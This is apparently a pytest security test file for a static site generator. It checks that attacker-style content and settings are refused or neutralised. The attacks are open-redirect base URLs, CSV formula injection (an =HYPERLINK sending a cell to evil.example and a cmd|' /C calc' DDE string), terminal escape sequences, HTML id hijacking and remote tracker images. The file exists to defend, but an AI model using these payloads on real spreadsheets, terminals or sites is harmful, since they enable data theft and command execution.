"""Issue 17, part C: content cannot take over a page, a spreadsheet or a terminal.

Every test is an attack made the way a contributor would make it (a content file, a setting,
an argument), run through the real command line in a sandboxed checkout (tests/attack.py). Each
states its outcome: either exit 1 with the file, the field and a hint and the old output
byte-identical, or exit 0 with the payload neutralised; and either way nothing changes outside
the output folder, .cache/, the user's cache key and the temporary folder.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from attack import Checkout, Result, tree_bytes
from conftest import ROOT

# what must never reach a terminal raw: C0 controls but tab and newline, DEL and C1
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ENTRY = "content/entries/2022-01-12-council-meets.md"
ENTRY_PAGE = "entries/2022-01-12-council-meets/index.html"


def built(tmp_path: Path, shipped_templates: bool = False) -> tuple[Checkout, dict[str, bytes]]:
    """A checkout of the fixture site built once, and the bytes of that good output."""
    co = Checkout(tmp_path)
    if shipped_templates:
        shutil.rmtree(co.root / "templates")
        shutil.copytree(ROOT / "templates", co.root / "templates")
    first = co.run("build", "--no-search")
    assert first.code == 0, first.text
    return co, tree_bytes(co.output)


def assert_refused(co: Checkout, old: dict[str, bytes], result: Result, shown: str,
                   field: str) -> None:
    """Exit 1 naming the file and field with a hint; old output intact; terminal safe."""
    assert result.code == 1, result.text
    assert shown in result.err, result.err
    assert re.search(rf": {re.escape(field)}[.:]", result.err), result.err
    assert "hint:" in result.err, result.err
    assert not RAW_CONTROL.search(result.text), repr(result.text)
    assert tree_bytes(co.output) == old


def attack(co: Checkout, *args: str) -> Result:
    """Run ``sitegen ARGS`` and check that it wrote nowhere it may not."""
    before = co.snapshot()
    result = co.run(*args)
    assert co.changed_outside_allowed(before, co.snapshot()) == []
    return result


def set_config(co: Checkout, **settings: object) -> None:
    """Replace settings in the checkout's sitegen.toml (values written as TOML)."""
    path = co.root / "sitegen.toml"
    lines = [line for line in path.read_text().splitlines()
             if line.split("=")[0].strip() not in settings]
    lines += [f"{key} = {json.dumps(value)}" for key, value in settings.items()]
    path.write_text("\n".join(lines) + "\n")


def edit(co: Checkout, rel: str, old: str, new: str) -> None:
    path = co.root / rel
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


# --- item 5: base_url --------------------------------------------------------------------

BAD_BASE_URLS = [
    "https://example.org//evil.example/",
    "https://example.org/fixture//evil.example/",
    "https://user:secret@example.org/",
    "https://example.org\\@evil.example/",
    "https:///evil.example/",
    "//evil.example/",
    "javascript:alert(1)//",
    "https://example.org/?next=//evil.example/",
    "https://example.org/#//evil.example/",
    "https://example.org/\u001b[2J/",
]


@pytest.mark.parametrize("value", BAD_BASE_URLS)
def test_a_base_url_setting_that_could_load_another_host_is_refused(
        tmp_path: Path, value: str) -> None:
    co, old = built(tmp_path)
    set_config(co, base_url=value)
    result = attack(co, "build", "--no-search")
    assert_refused(co, old, result, "sitegen.toml", "base_url")
    assert "evil.example" not in "".join(p.decode() for p in tree_bytes(co.output).values()
                                         if p.startswith(b"<!doctype"))


@pytest.mark.parametrize("value", BAD_BASE_URLS[:4])
def test_a_base_url_option_that_could_load_another_host_is_refused(
        tmp_path: Path, value: str) -> None:
    co, old = built(tmp_path)
    result = attack(co, "build", "--no-search", "--base-url", value)
    assert_refused(co, old, result, "--base-url", "base_url")


def test_no_page_links_or_loads_a_protocol_relative_url(tmp_path: Path) -> None:
    co = Checkout(tmp_path)
    set_config(co, base_url="https://example.org/")
    result = attack(co, "build", "--no-search", "--base-url", "https://example.org/sub/")
    assert result.code == 0, result.text
    pages = {p: b.decode() for p, b in tree_bytes(co.output).items() if p.endswith(".html")}
    assert pages
    for path, text in pages.items():
        assert not re.search(r'(?:src|href|action|content)="//', text), path


# --- item 6: formulas in timeline.csv ----------------------------------------------------

def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path) -> None:
    co, _ = built(tmp_path)
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'
    edit(co, ENTRY, "title: The council meets on <Ukraine> & security",
         "title: '" + formula.replace("'", "''") + "'")
    edit(co, ENTRY, 'summary: Allies and Russia had a "direct" exchange.',
         "summary: \"+SUM(1+1)*cmd|' /C calc'!A0\"")
    edit(co, ENTRY, "location: Brussels", "location: '-2+3'")
    edit(co, "content/participants.yaml", "name: Russia", "name: '@SUM(1)'")
    edit(co, "content/topics.yaml", "label: Ukraine", "label: '=1+1'")
    result = attack(co, "build", "--no-search")
    assert result.code == 0, result.text
    rows = list(csv.DictReader(io.StringIO((co.output / "timeline.csv").read_text())))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    row = next(r for r in rows if r["id"] == "2022-01-12-council-meets")
    assert row["title"] == "'" + formula
    assert row["summary"].startswith("'+SUM")
    assert row["location"] == "'-2+3"
    first = next(r for r in rows if r["id"] == "1994-partnership")
    assert first["participants"] == "'@SUM(1); NATO"
    assert row["topics"] == "'=1+1"
    # only the spreadsheet export is changed: the data and the pages keep the text
    data = json.loads((co.output / "timeline.json").read_text())
    assert formula in [e["title"] for e in data["entries"]]
    assert "=HYPERLINK(" in (co.output / ENTRY_PAGE).read_text()


# --- item 7: control characters ----------------------------------------------------------

PARTICIPANTS = "content/participants.yaml"
CONTROL_ATTACKS = {
    # name: (file, text to find, its replacement, field named in the error)
    "alias-nul": (PARTICIPANTS, "  kind: state\n", '  kind: state\n  aliases: ["\\x000\\x00"]\n',
                  "aliases"),
    "entry-role": (ENTRY, "  - stoltenberg: chair", '  - stoltenberg: "\\e[2J\\e[1;1Hchair\\a"',
                   "participants"),
    "entry-participant-id": (ENTRY, "  - nato\n", '  - "nato\\e[2J"\n', "participants"),
    "registry-id": (PARTICIPANTS, "- id: russia", '- id: "russia\\x9b2J"', "id"),
    "registry-role": (PARTICIPANTS, "role: Secretary General", 'role: "Secretary\\x9b2J"',
                      "roles.role"),
    "topic-id": (ENTRY, "topics: [ukraine]", 'topics: ["ukraine\\e[2J"]', "topics"),
    "related-id": (ENTRY, "related: [2019-treaty-ends]", 'related: ["2019-treaty-ends\\e[5m"]',
                   "related"),
    "period-source": ("content/periods.yaml", "  end: 2022-01-12",
                      '  end: 2022-01-12\n  sources: ["https://example.org/\\e[2J"]', "sources"),
    "extra": (ENTRY, "updated: 2026-11-28", 'updated: 2026-11-28\nextra: {note: "a\\bb"}',
              "extra.note"),
    "carriage-return": (ENTRY, "    text: No agreement; talks to continue.",
                        '    text: "No agreement\\rAgreed in full"', "outcomes.text"),
    "body": (ENTRY, '"Quotes" -- and dashes.', '"Quotes" \x1b[2J\x1b]0;pwned\x07 and dashes.',
             "body"),
}


@pytest.mark.parametrize("name", sorted(CONTROL_ATTACKS))
def test_control_characters_in_any_text_field_are_a_located_error(tmp_path: Path,
                                                                  name: str) -> None:
    rel, find, replace, field = CONTROL_ATTACKS[name]
    co, old = built(tmp_path)
    edit(co, rel, find, replace)
    result = attack(co, "build", "--no-search")
    assert_refused(co, old, result, rel, field)
    assert "control character" in result.err
    assert re.search(re.escape(rel) + r":\d+: ", result.err), result.err  # with its line


def test_a_file_name_with_control_characters_is_shown_escaped(tmp_path: Path) -> None:
    co, old = built(tmp_path)
    shutil.copy(co.root / ENTRY, co.root / "content/entries/evil\x1b]0;pwned\x07.md")
    result = attack(co, "build", "--no-search")
    assert_refused(co, old, result, "content/entries/evil\\x1b]0;pwned\\x07.md", "id")


# --- item 8: whole-value matches -----------------------------------------------------------

def test_an_entry_file_name_ending_in_a_newline_is_not_an_id(tmp_path: Path) -> None:
    co, old = built(tmp_path)
    shutil.copy(co.root / ENTRY, co.root / "content/entries/evil\n.md")
    edit(co, "content/entries/evil\n.md", "related: [2019-treaty-ends]\n", "")
    result = attack(co, "build", "--no-search")
    assert_refused(co, old, result, "content/entries/evil\\n.md", "id")
    assert not any("\n" in p for p in tree_bytes(co.output))


def test_a_configured_kind_ending_in_a_newline_is_refused(tmp_path: Path) -> None:
    co, old = built(tmp_path)
    set_config(co, kinds=["meeting\n", "statement", "agreement", "treaty"])
    result = attack(co, "build", "--no-search")
    assert_refused(co, old, result, "sitegen.toml", "kinds")


# --- item 12: ids, classes and images in bodies --------------------------------------------

class _Ids(HTMLParser):
    """Every id and class of a page, and the ids/hrefs/classes/images inside the body."""

    def __init__(self) -> None:
        super().__init__()
        self.ids: list[str] = []
        self.depth = 0  # > 0 inside <div class="prose">
        self.body_ids: list[str] = []
        self.body_hrefs: list[str] = []
        self.body_classes: list[str] = []
        self.body_imgs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if "id" in a:
            self.ids.append(a["id"])
        if self.depth:
            if tag not in ("br", "hr", "img"):
                self.depth += 1
            if "id" in a:
                self.body_ids.append(a["id"])
            if "href" in a:
                self.body_hrefs.append(a["href"])
            self.body_classes += a.get("class", "").split()
            if tag == "img":
                self.body_imgs.append(a.get("src", ""))
        elif tag == "div" and a.get("class") == "prose":
            self.depth = 1

    def handle_endtag(self, tag: str) -> None:
        if self.depth:
            self.depth -= 1


def page_ids(html: str) -> _Ids:
    parser = _Ids()
    parser.feed(html)
    return parser


HIJACK = """
<div id="cite-text" class="cite-text cite skip-link"><p>Fake citation</p></div>
<p id="entry-title" class="site-header">Where the skip link would land.</p>
<a href="#cite-text" class="button">copy</a>

## Main

See [the heading](#main) and [what was said](#what-was-said).

```python
print("hi")
```
"""


def test_body_html_cannot_take_the_id_or_class_of_a_page_control(tmp_path: Path) -> None:
    co, _ = built(tmp_path, shipped_templates=True)
    with open(co.root / ENTRY, "a") as fh:
        fh.write(HIJACK)
    result = attack(co, "build", "--no-search")
    assert result.code == 0, result.text
    html = (co.output / ENTRY_PAGE).read_text()
    page = page_ids(html)
    assert len(page.ids) == len(set(page.ids)), sorted(page.ids)
    assert page.body_ids and all(i.startswith("c-") for i in page.body_ids), page.body_ids
    # the page's own controls keep their ids: the citation copied is the real one
    assert re.search(r'<h2 id="h-cite">Cite this entry</h2>\n<p>[^<]*Fixture timeline', html), html
    assert "Fake citation" in html  # the text stays, without the id
    assert len(re.findall(r'class="[^"]*\bcite\b', html)) == 1  # the script's box is the page's
    # same-page links in the body follow their targets; footnotes and headings still work
    inner = [h[1:] for h in page.body_hrefs if h.startswith("#")]
    assert all(h.startswith("c-") for h in inner), inner
    working = {"c-fn:1", "c-fnref:1", "c-what-was-said", "c-main"}
    assert working <= set(inner) and working <= set(page.body_ids), (inner, page.body_ids)
    # classes: only what Markdown itself writes
    assert set(page.body_classes) == {"footnote", "footnote-ref", "footnote-backref",
                                      "language-python"}, page.body_classes


def test_remote_images_become_links_unless_the_site_allows_them(tmp_path: Path) -> None:
    co, _ = built(tmp_path, shipped_templates=True)
    with open(co.root / ENTRY, "a") as fh:
        fh.write('\n![A map](https://tracker.example/map.png "Map")\n\n'
                 '<img src="//tracker.example/pixel.gif" alt="">\n\n'
                 '<img src="HTTPS://TRACKER.example/x.png" alt="Upper">\n\n'
                 "![Our logo](../../static/favicon.svg)\n")
    result = attack(co, "build", "--no-search")
    assert result.code == 0, result.text
    html = (co.output / ENTRY_PAGE).read_text()
    page = page_ids(html)
    assert page.body_imgs == ["../../static/favicon.svg"]
    assert 'href="https://tracker.example/map.png"' in html
    assert 'href="//tracker.example/pixel.gif"' in html
    assert ">A map<" in html or ">A map (image)<" in html
    assert "img-src 'self' data:;" in html

    set_config(co, remote_images=True)
    result = attack(co, "build", "--no-search")
    assert result.code == 0, result.text
    html = (co.output / ENTRY_PAGE).read_text()
    assert page_ids(html).body_imgs == ["https://tracker.example/map.png",
                                        "//tracker.example/pixel.gif",
                                        "HTTPS://TRACKER.example/x.png",
                                        "../../static/favicon.svg"]
    assert "img-src 'self' data: https:;" in html


def test_remote_images_must_be_true_or_false(tmp_path: Path) -> None:
    co, old = built(tmp_path)
    set_config(co, remote_images="yes")
    assert_refused(co, old, attack(co, "build", "--no-search"), "sitegen.toml", "remote_images")


# --- item 13: sitegen new and bench/corpus.py ----------------------------------------------

HOSTILE_TITLES = [
    "Talks in C:\\Temp\\",
    'He said "no" and \'yes\'',
    "key: value # not a comment",
    "- a list?",
    "[not, a, list]",
    "{not: a mapping}",
    "&anchor *alias !tag %directive @at `tick`",
    "| literal > folded",
    "null",
    "2022-01-12",
    "yes",
    "Ünïcödé — “quotes” ‘and’ …",
    "\\x41 \\u0041 \\N",
]


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_new_writes_front_matter_that_reads_back_as_the_title(tmp_path: Path,
                                                              title: str) -> None:
    co = Checkout(tmp_path)
    before = co.snapshot()
    result = co.run("new", title, "--date", "2024-05-01")
    assert result.code == 0, result.text
    written = sorted((co.root / "content/entries").glob("2024-05-01-*.md"))
    assert len(written) == 1
    assert co.changed_outside_allowed(before, co.snapshot()) == [
        "checkout/" + written[0].relative_to(co.root).as_posix()]
    front = written[0].read_text().split("---\n")[1]
    assert yaml.safe_load(front)["title"] == title
    check = attack(co, "check")
    assert check.code == 0, check.text


def test_new_refuses_a_title_with_control_characters(tmp_path: Path) -> None:
    co = Checkout(tmp_path)
    before = co.snapshot()
    result = co.run("new", "Talks\x1b[2J\x07", "--date", "2024-05-01")
    assert result.code == 2, result.text
    assert "title" in result.err and "hint:" in result.err
    assert not RAW_CONTROL.search(result.text), repr(result.text)
    assert co.snapshot() == before


def test_new_does_not_follow_a_dangling_link_at_the_new_file(tmp_path: Path) -> None:
    co = Checkout(tmp_path)
    target = co.outside / "planted.md"
    co.link("content/entries/2024-05-01-talks.md", target)
    before = co.snapshot()
    result = co.run("new", "Talks", "--date", "2024-05-01")
    assert result.code == 1, result.text
    assert "content/entries/2024-05-01-talks.md" in result.err and "hint:" in result.err
    assert not target.exists()
    assert co.snapshot() == before


CORPUS = ROOT / "bench" / "corpus.py"


def corpus(cwd: Path, *args: str) -> Result:
    proc = subprocess.run([sys.executable, str(CORPUS), *args], cwd=cwd, capture_output=True,
                          text=True, timeout=120, check=False, stdin=subprocess.DEVNULL)
    return Result(proc.returncode, proc.stdout, proc.stderr)


def test_corpus_help_prints_usage_and_writes_nothing(tmp_path: Path) -> None:
    result = corpus(tmp_path, "--help")
    assert result.code == 0, result.text
    assert "usage:" in result.out
    assert list(tmp_path.iterdir()) == []


def test_corpus_refuses_a_folder_it_did_not_make(tmp_path: Path) -> None:
    co = Checkout(tmp_path)
    before = co.snapshot()
    result = corpus(co.root, ".", "3")
    assert result.code == 2, result.text
    assert "not a corpus" in result.err or "not empty" in result.err, result.err
    assert co.snapshot() == before


def test_corpus_writes_an_empty_folder_and_rewrites_its_own(tmp_path: Path) -> None:
    target = tmp_path / "corpus"
    assert corpus(tmp_path, str(target), "3").code == 0
    first = tree_bytes(target)
    assert len([p for p in first if p.startswith("content/entries/")]) == 3
    (target / "content/entries/extra.md").write_text("left over\n")
    result = corpus(tmp_path, str(target), "3")
    assert result.code == 0, result.text
    assert tree_bytes(target) == first
